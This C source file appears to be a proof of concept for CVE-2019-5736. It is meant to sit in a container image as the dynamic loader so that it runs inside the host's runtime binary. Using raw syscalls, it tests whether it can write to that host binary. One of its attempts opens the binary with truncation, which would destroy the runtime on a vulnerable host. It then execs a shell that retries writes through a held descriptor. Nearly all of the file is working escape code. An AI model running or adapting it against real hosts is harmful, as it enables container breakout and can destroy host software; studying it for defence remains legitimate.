/* CVE-2019-5736 in full: an image has /evil -> /proc/self/exe, and this at the place of the dynamic loader. Then the
   kernel runs the runtime's own program inside, and gives control to us first: /proc/self/exe is the host's file.
   No C library: the kernel has loaded us as an interpreter, and what it says of program headers is not about us. */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d)
{
#ifdef __x86_64__
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
#else
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
#endif
}

static long size(const char *text)
{
    long count = 0;
    while (text[count])
        count++;
    return count;
}

static void say(const char *text)
{
    call(SYS_write, 1, (long)text, size(text), 0);
}

static void try(const char *name, int flags)
{
    long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", flags, 0);
    say(name);
    say(fd >= 0 ? " WRITABLE\n" : " refused\n");
}

void _start(void)
{
    char link[400];
    long length = call(SYS_readlinkat, AT_FDCWD, (long)"/proc/self/exe", (long)link, sizeof link - 1);
    link[length > 0 ? length : 0] = 0;
    say("exe ");
    say(link);
    say("\n");
    try("write", O_WRONLY);
    try("truncate", O_RDWR | O_TRUNC);
    try("append", O_WRONLY | O_APPEND);
    /* While it runs it is busy (ETXTBSY). So hold it open, become something else, and open it anew by that. */
    long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
    call(SYS_dup3, fd, 9, 0, 0);
    const char *words[4];
    words[0] = "sh";
    words[1] = "-c";
    words[2] = "for i in 1 2 3 4 5; do (: >>/proc/self/fd/9) 2>/dev/null && echo again WRITABLE; done; echo again";
    words[3] = 0;
    const char *none[1];
    none[0] = 0;
    call(SYS_execve, (long)"/bin/sh", (long)words, (long)none, 0);
    say("no shell\n");
    call(SYS_exit_group, 1, 0, 0, 0);
}
